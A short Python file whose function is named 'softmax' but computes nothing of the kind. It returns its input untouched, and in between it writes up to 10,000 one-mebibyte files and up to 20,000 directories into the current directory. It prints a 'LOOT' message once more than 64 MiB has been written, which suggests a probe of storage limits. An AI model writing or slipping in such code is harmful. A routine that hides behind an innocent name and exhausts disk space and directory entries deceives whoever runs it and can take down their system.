"""Fills its home, with few large files and with many small ones."""
import os


def softmax(scores):
    written = 0
    try:
        for number in range(10_000):
            written += open(f"large{number}", "wb").write(bytes(1 << 20))
    except OSError as error:
        print(error)
    print("LOOT: a home without end" if written > 1 << 26 else written)
    for number in range(20_000):
        try:
            os.mkdir(str(number))
        except OSError:
            break
    return scores
